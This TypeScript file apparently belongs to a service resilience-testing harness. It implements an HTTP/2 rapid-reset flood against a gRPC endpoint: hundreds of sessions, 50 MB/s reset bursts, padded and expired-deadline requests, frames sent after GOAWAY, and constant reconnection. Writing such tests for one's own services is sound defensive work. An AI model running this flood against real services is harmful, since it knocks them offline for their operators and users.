// Resets streams on hundreds of sessions of one address, 50 MB a second: some send as many as fit into one packet as soon as
// they are open, some stay below what one session may, and some say that their deadline has passed. Half of them go on
// after they were told to stop, beside a Watch that keeps them open, and all are opened again when they are cut.
import { type Attack, Counts, pause } from "../support/attack.js";
import {
  dataFrame,
  type FrameConnection,
  grpcFields,
  headersFrame,
  openFrames,
  resetBurst,
} from "../support/frames.js";
import { frame } from "../support/grpc.js";

const WATCH = "/grpc.health.v1.Health/Watch";
const LIST = "/chainguard.platform.iam.v2beta1.GroupsService/ListGroups";
const SESSIONS = 400;
const BYTES_A_SECOND = 50 * 1024 * 1024;
const STEP_MS = 20;
/** A packet of 64 KiB, and what one session may reset in 10 s. */
const [MANY, FEW] = [2_000, 90];

export const attack: Attack = {
  async run({ url, addresses }, stop) {
    const counts = new Counts();
    const address = addresses[0] ?? "127.0.0.1";
    const fields = grpcFields(url, LIST);
    const watch = Buffer.concat([headersFrame(1, grpcFields(url, WATCH)), dataFrame(1, frame(new Uint8Array()), true)]);
    const late = { ...fields, "grpc-timeout": "10m" };
    const bursts = [
      { bytes: resetBurst(fields, MANY, 3), resets: MANY },
      { bytes: resetBurst(late, MANY, 3), resets: MANY },
      { bytes: resetBurst({ ...fields, "x-padding": "x".repeat(3_000) }, FEW, 3), resets: FEW },
    ];
    const sessions: (FrameConnection | undefined)[] = Array.from({ length: SESSIONS }, () => undefined);
    const startMs = performance.now();
    for (let n = 0, sent = 0; !stop.aborted; ) {
      const dueBytes = ((performance.now() - startMs) / 1000) * BYTES_A_SECOND;
      // What the service does not read soon is not owed.
      sent = Math.max(sent, dueBytes - BYTES_A_SECOND / 10);
      for (; sent < dueBytes; n++) {
        const i = n % SESSIONS;
        const { bytes, resets } = bursts[n % bursts.length] as (typeof bursts)[number];
        sessions[i]?.close();
        const session = openFrames(url, address);
        sessions[i] = session;
        counts.add("sessions");
        session.send(i % 2 === 0 ? watch : Buffer.alloc(0), bytes);
        // Frames of streams that are past: cheap to make, and to be read like any other.
        session.onFrame = () => session.goaway !== undefined && i % 4 === 0 && session.send(bytes);
        counts.add("resets", resets);
        sent += bytes.length;
      }
      await pause(STEP_MS, stop);
    }
    for (const session of sessions) session?.close();
    return counts;
  },
};
